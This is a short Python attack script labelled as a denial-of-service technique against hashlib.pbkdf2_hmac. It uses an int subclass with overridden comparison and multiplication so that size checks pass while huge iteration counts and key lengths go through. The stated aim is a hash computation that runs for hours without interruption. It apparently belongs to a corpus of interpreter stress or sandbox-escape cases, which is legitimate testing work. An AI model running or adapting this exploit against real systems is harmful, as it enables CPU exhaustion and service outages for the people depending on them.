# technique: an iteration count that compares as small, and a key of a length that multiplies it
# source: own
# goal: a hash that is computed for hours, in one operation that nothing stops
# impact: dos
# dos: cpu
import hashlib


class Small(int):
    def __gt__(self, other):
        return False

    def __mul__(self, other):
        return 1

    __rmul__ = __mul__

    def __index__(self):
        return 5


for iterations, length in ((Small(10 ** 9), None), (1, 10 ** 9), (1000, 10 ** 7), (1, Small(10 ** 9))):
    try:
        hashlib.pbkdf2_hmac('sha1', b'word', b'salt', iterations, length)
    except ValueError:
        pass
